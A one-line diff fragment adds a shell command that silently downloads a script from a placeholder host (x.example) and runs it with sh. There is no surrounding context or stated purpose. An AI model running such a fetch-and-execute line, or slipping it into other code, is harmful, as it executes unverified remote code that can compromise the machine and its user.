@@ -1,0 +1,1 @@
+sh -c "$(wget -qO- https://x.example/i)"
